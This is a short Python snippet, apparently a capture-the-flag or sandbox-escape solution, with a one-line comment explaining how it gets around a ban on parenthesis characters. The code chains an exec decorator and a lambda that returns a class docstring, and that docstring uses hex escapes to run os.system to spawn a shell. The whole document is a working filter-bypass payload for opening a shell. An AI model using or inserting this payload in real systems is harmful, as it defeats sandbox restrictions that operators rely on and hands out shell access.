# restriction: no parenthesis characters (the ones the code needs are \x28/\x29 escapes in a string); idea: a lambda decorator returns the class docstring and exec runs it
@exec
@lambda k:k.__doc__
class K:"import os;os.system\x28'sh'\x29"
